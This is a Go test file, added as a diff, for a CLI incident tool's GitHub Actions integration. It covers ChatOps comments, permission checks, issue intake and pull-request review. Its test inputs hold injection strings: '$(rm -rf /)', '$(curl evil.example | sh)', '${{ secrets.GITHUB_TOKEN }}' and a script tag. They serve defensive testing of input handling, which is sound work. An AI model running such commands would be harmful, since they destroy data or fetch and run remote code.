@@ -1,0 +1,311 @@
+package cli_test
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/sev-dev/sev/internal/ghfake"
+)
+
+// The GitHub workflows, simulated end to end: a real git repository with a
+// bare remote, the event file and the variables the runner sets, the fake
+// GitHub API (which checks every request against GitHub's OpenAPI
+// description), and sev run in-process as the workflow's step would run it.
+
+const (
+	ghOwner, ghName = "northwind", "incidents"
+	ghToken         = "ghs_workflowtoken"
+	ghServer        = "https://github.com"
+)
+
+// people maps the test's GitHub logins to sev handles.
+const people = `people:
+  - handle: alice
+    name: Alice Example
+    email: alice@example.com
+    github: alice-gh
+  - handle: bob
+    name: Bob Example
+    email: bob@example.com
+    github: bob-gh
+`
+
+type ghWorld struct {
+	t            *testing.T
+	env          []string
+	repo, remote string
+	fake         *ghfake.Server
+	tmp          string
+}
+
+func newGHWorld(t *testing.T) *ghWorld {
+	t.Helper()
+	env := gitEnv(t)
+	root := t.TempDir()
+	w := &ghWorld{t: t, env: env, remote: filepath.Join(root, "remote.git"), repo: filepath.Join(root, "work"), tmp: filepath.Join(root, "runner")}
+	os.MkdirAll(w.tmp, 0o755)
+	w.fake = ghfake.New(t, ghfake.Options{Owner: ghOwner, Repo: ghName, Token: ghToken})
+	git(t, env, root, "init", "-q", "--bare", w.remote)
+	git(t, env, root, "clone", "-q", w.remote, w.repo)
+	if _, e, code := sev(t, env, w.repo, "init"); code != 0 {
+		t.Fatalf("sev init: %s", e)
+	}
+	cfg := filepath.Join(w.repo, "sev.yaml")
+	data, _ := os.ReadFile(cfg)
+	os.WriteFile(cfg, []byte(strings.Replace(string(data), "people: []\n", people, 1)), 0o644)
+	git(t, env, w.repo, "add", "-A")
+	git(t, env, w.repo, "commit", "-q", "-m", "sev: set up")
+	git(t, env, w.repo, "push", "-q", "origin", "HEAD:main")
+	return w
+}
+
+func issueURL(n int) string {
+	return ghServer + "/" + ghOwner + "/" + ghName + "/issues/" + strconv.Itoa(n)
+}
+
+// run writes the event and runs `sev ARGS` as a workflow step would.
+func (w *ghWorld) run(event string, payload map[string]any, args ...string) (string, string, int) {
+	w.t.Helper()
+	payload["repository"] = map[string]any{
+		"full_name": ghOwner + "/" + ghName, "name": ghName, "default_branch": "main",
+		"html_url": ghServer + "/" + ghOwner + "/" + ghName, "private": true,
+		"owner": map[string]any{"login": ghOwner, "type": "Organization"},
+	}
+	data, err := json.Marshal(payload)
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	path := filepath.Join(w.tmp, "event.json")
+	if err := os.WriteFile(path, data, 0o644); err != nil {
+		w.t.Fatal(err)
+	}
+	head := strings.TrimSpace(git(w.t, w.env, w.repo, "rev-parse", "HEAD"))
+	env := append(append([]string{}, w.env...),
+		"GITHUB_ACTIONS=true", "GITHUB_EVENT_NAME="+event, "GITHUB_EVENT_PATH="+path,
+		"GITHUB_REPOSITORY="+ghOwner+"/"+ghName, "GITHUB_REPOSITORY_OWNER="+ghOwner,
+		"GITHUB_SERVER_URL="+ghServer, "GITHUB_API_URL="+strings.TrimSuffix(w.fake.URL, "/"),
+		"GITHUB_TOKEN="+ghToken, "GITHUB_SHA="+head, "GITHUB_REF=refs/heads/main", "GITHUB_ACTOR=alice-gh",
+		"GITHUB_RUN_ID=4242", "GITHUB_WORKSPACE="+w.repo, "RUNNER_TEMP="+w.tmp,
+		"GITHUB_OUTPUT="+filepath.Join(w.tmp, "output"), "GITHUB_STEP_SUMMARY="+filepath.Join(w.tmp, "summary"))
+	return sev(w.t, env, w.repo, args...)
+}
+
+// remoteHead is the remote main's commit.
+func (w *ghWorld) remoteHead() string {
+	return strings.TrimSpace(git(w.t, w.env, w.remote, "rev-parse", "main"))
+}
+
+// clean checks the remote and the clone with git itself.
+func (w *ghWorld) clean() {
+	w.t.Helper()
+	git(w.t, w.env, w.remote, "fsck", "--strict")
+	git(w.t, w.env, w.repo, "fsck", "--strict")
+	if st := git(w.t, w.env, w.repo, "status", "--porcelain"); st != "" {
+		w.t.Errorf("git status is not clean:\n%s", st)
+	}
+}
+
+// declareLinked declares an incident linked to issue n and pushes it.
+func (w *ghWorld) declareLinked(title string, n int, extra ...string) string {
+	w.t.Helper()
+	args := append([]string{"declare", title, "--by", "alice", "--link", "issue=" + issueURL(n), "--push"}, extra...)
+	out, e, code := sev(w.t, w.env, w.repo, args...)
+	if code != 0 {
+		w.t.Fatalf("declare: %s", e)
+	}
+	id := strings.Fields(strings.TrimPrefix(out, "declared "))[0]
+	w.fake.AddIssue(ghfake.Issue{Number: n, Title: title, Author: "alice-gh"})
+	return id
+}
+
+func commentEvent(t *testing.T, issue int, id int64, login, body string) map[string]any {
+	p := ghfake.Event(t, "issue_comment", "created")
+	c := p["comment"].(map[string]any)
+	c["id"], c["body"] = id, body
+	c["user"] = map[string]any{"login": login, "type": "User", "id": 1}
+	is := p["issue"].(map[string]any)
+	is["number"], is["html_url"] = issue, issueURL(issue)
+	delete(is, "pull_request")
+	return p
+}
+
+func TestChatOpsRecordsCommandsOnce(t *testing.T) {
+	w := newGHWorld(t)
+	id := w.declareLinked("Checkout errors in EU", 7)
+	w.fake.SetPermission("alice-gh", "write")
+	body := "Rolling back now.\n/sev status mitigated\n/sev note rolled back `v2` $(rm -rf /) ${{ secrets.X }} @everyone\n/sev assign scribe @bob-gh"
+	cid := w.fake.AddComment(7, "alice-gh", body)
+	before := w.remoteHead()
+
+	out, e, code := w.run("issue_comment", commentEvent(t, 7, cid, "alice-gh", body), "github", "comment")
+	if code != 0 {
+		t.Fatalf("github comment: exit %d\n%s\n%s", code, out, e)
+	}
+	commits := strings.Fields(git(t, w.env, w.remote, "log", "--format=%ae", before+"..main"))
+	if len(commits) != 3 || commits[0] != "alice@example.com" {
+		t.Errorf("commits on the remote by %v, want 3 by Alice Example", commits)
+	}
+	show, _, _ := sev(t, w.env, w.repo, "show", id, "--json")
+	for _, want := range []string{`"status": "mitigated"`, `"scribe": "bob"`, "rolled back `v2` $(rm -rf /) ${{ secrets.X }} @everyone"} {
+		if !strings.Contains(show, want) {
+			t.Errorf("the incident does not have %s:\n%s", want, show)
+		}
+	}
+	c, _ := w.fake.Comment(cid)
+	if len(c.Reactions) != 1 || c.Reactions[0].Content != "+1" {
+		t.Errorf("reactions %v, want one +1", c.Reactions)
+	}
+	replies := w.fake.Comments(7)
+	if len(replies) != 2 || !strings.Contains(replies[1].Body, "Recorded in") {
+		t.Fatalf("replies: %+v", replies)
+	}
+	if strings.Contains(replies[1].Body, "@everyone") {
+		t.Errorf("the reply mentions @everyone live:\n%s", replies[1].Body)
+	}
+	w.clean()
+
+	// The same event again (a re-run of the workflow) records nothing.
+	head := w.remoteHead()
+	if out, e, code := w.run("issue_comment", commentEvent(t, 7, cid, "alice-gh", body), "github", "comment"); code != 0 {
+		t.Fatalf("second run: exit %d\n%s\n%s", code, out, e)
+	}
+	if w.remoteHead() != head {
+		t.Errorf("the second run committed: %s", git(t, w.env, w.remote, "log", "--oneline", head+"..main"))
+	}
+	if n := len(w.fake.Comments(7)); n != 2 {
+		t.Errorf("%d comments after the second run, want 2 (the reply updated in place)", n)
+	}
+	w.clean()
+}
+
+func TestChatOpsRefusesWithoutWritePermission(t *testing.T) {
+	w := newGHWorld(t)
+	w.declareLinked("Checkout errors in EU", 7)
+	w.fake.SetPermission("mallory", "read")
+	cid := w.fake.AddComment(7, "mallory", "/sev status resolved")
+	head := w.remoteHead()
+	if _, e, code := w.run("issue_comment", commentEvent(t, 7, cid, "mallory", "/sev status resolved"), "github", "comment"); code != 0 {
+		t.Fatalf("exit %d: %s", code, e)
+	}
+	if w.remoteHead() != head {
+		t.Error("a reader's command was recorded")
+	}
+	c, _ := w.fake.Comment(cid)
+	if len(c.Reactions) != 1 || c.Reactions[0].Content != "confused" {
+		t.Errorf("reactions %v, want confused", c.Reactions)
+	}
+	if r := w.fake.Comments(7); len(r) != 2 || !strings.Contains(r[1].Body, "write permission") {
+		t.Errorf("replies %+v", r)
+	}
+}
+
+// A comment whose second command fails keeps what the first recorded and
+// says so.
+func TestChatOpsStopsAtAFailingCommand(t *testing.T) {
+	w := newGHWorld(t)
+	w.declareLinked("Checkout errors in EU", 7)
+	w.fake.SetPermission("alice-gh", "admin")
+	body := "/sev status mitigated\n/sev status nonsense-status\n/sev note never recorded"
+	cid := w.fake.AddComment(7, "alice-gh", body)
+	head := w.remoteHead()
+	_, _, code := w.run("issue_comment", commentEvent(t, 7, cid, "alice-gh", body), "github", "comment")
+	if code != 1 {
+		t.Errorf("exit %d, want 1", code)
+	}
+	r := w.fake.Comments(7)
+	if len(r) != 2 || !strings.Contains(r[1].Body, "status → mitigated") || !strings.Contains(r[1].Body, "line 2 failed") {
+		t.Errorf("replies %+v", r)
+	}
+	if n := strings.Count(git(t, w.env, w.remote, "log", "--oneline", head+"..main"), "\n"); n != 1 {
+		t.Errorf("%d commits, want the first command's only", n)
+	}
+}
+
+func TestIntakeDeclaresFromTheIssueForm(t *testing.T) {
+	w := newGHWorld(t)
+	title := "Checkout `$(curl evil.example | sh)` ${{ secrets.GITHUB_TOKEN }} errors\nset-output"
+	body := "### Severity\n\nSEV1\n\n### What is happening\n\nPayments fail for <b>EU</b> customers @everyone\n\n### Who noticed\n\n_No response_\n"
+	n := w.fake.AddIssue(ghfake.Issue{Title: title, Body: body, Labels: []string{"incident"}, Author: "bob-gh"})
+	p := ghfake.Event(t, "issues", "opened")
+	is := p["issue"].(map[string]any)
+	is["number"], is["title"], is["body"], is["html_url"] = n, title, body, issueURL(n)
+	is["user"] = map[string]any{"login": "bob-gh", "type": "User", "id": 2}
+	is["labels"] = []any{map[string]any{"name": "incident"}}
+	delete(is, "pull_request")
+	before := w.remoteHead()
+
+	out, e, code := w.run("issues", p, "github", "intake")
+	if code != 0 {
+		t.Fatalf("intake: exit %d\n%s\n%s", code, out, e)
+	}
+	list, _, _ := sev(t, w.env, w.repo, "list", "--json")
+	if strings.Count(list, `"id"`) != 1 || !strings.Contains(list, `"severity": 1`) {
+		t.Fatalf("incidents after intake:\n%s", list)
+	}
+	if log := git(t, w.env, w.remote, "log", "--format=%an", before+"..main"); !strings.Contains(log, "Bob Example") {
+		t.Errorf("the incident was not declared by the issue's author: %q", log)
+	}
+	r := w.fake.Comments(n)
+	if len(r) != 1 || !strings.Contains(r[0].Body, "Declared [") || !strings.Contains(r[0].Body, "/sev note") {
+		t.Fatalf("intake reply: %+v", r)
+	}
+	w.clean()
+
+	// Opened again (a re-run), and labeled later: no second incident.
+	head := w.remoteHead()
+	if _, e, code := w.run("issues", p, "github", "intake"); code != 0 {
+		t.Fatalf("second intake: %s", e)
+	}
+	if w.remoteHead() != head || len(w.fake.Comments(n)) != 1 {
+		t.Error("the second intake declared again or replied twice")
+	}
+}
+
+func TestReviewCommentsOnceAndSkipsForks(t *testing.T) {
+	w := newGHWorld(t)
+	sev(t, w.env, w.repo, "declare", "Orders database failover", "--by", "alice", "--push")
+	base := w.remoteHead()
+	git(t, w.env, w.repo, "checkout", "-q", "-b", "declare-checkout")
+	if _, e, code := sev(t, w.env, w.repo, "declare", "Checkout errors in EU <script>alert(1)</script>", "--sev", "2", "--by", "bob"); code != 0 {
+		t.Fatal(e)
+	}
+	git(t, w.env, w.repo, "push", "-q", "origin", "declare-checkout")
+	head := strings.TrimSpace(git(t, w.env, w.repo, "rev-parse", "HEAD"))
+	n := w.fake.AddIssue(ghfake.Issue{Title: "Declare checkout", PR: true, Author: "bob-gh"})
+	event := func(headRepo string) map[string]any {
+		p := ghfake.Event(t, "pull_request", "opened")
+		p["number"] = n
+		pr := p["pull_request"].(map[string]any)
+		pr["number"] = n
+		pr["head"] = map[string]any{"sha": head, "ref": "declare-checkout", "repo": map[string]any{"full_name": headRepo}}
+		pr["base"] = map[string]any{"sha": base, "ref": "main", "repo": map[string]any{"full_name": ghOwner + "/" + ghName}}
+		return p
+	}
+	if out, e, code := w.run("pull_request", event(ghOwner+"/"+ghName), "github", "review"); code != 0 {
+		t.Fatalf("review: exit %d\n%s\n%s", code, out, e)
+	}
+	r := w.fake.Comments(n)
+	if len(r) != 1 || !strings.Contains(r[0].Body, "Checkout errors in EU") || !strings.Contains(r[0].Body, "declared") {
+		t.Fatalf("review comment: %+v", r)
+	}
+	if strings.Contains(r[0].Body, "<script>") {
+		t.Errorf("the title reached the comment as HTML:\n%s", r[0].Body)
+	}
+	if strings.Contains(r[0].Body, "Orders database failover\n") {
+		t.Errorf("the comment lists an incident the pull request does not change")
+	}
+	if _, _, code := w.run("pull_request", event(ghOwner+"/"+ghName), "github", "review"); code != 0 || len(w.fake.Comments(n)) != 1 {
+		t.Errorf("a second review wrote a second comment")
+	}
+	requests := len(w.fake.Requests())
+	if out, _, code := w.run("pull_request", event("mallory/incidents"), "github", "review"); code != 0 || !strings.Contains(out, "fork") {
+		t.Errorf("fork: exit %d, %q", code, out)
+	}
+	if len(w.fake.Requests()) != requests {
+		t.Error("a fork's pull request made API calls")
+	}
+}
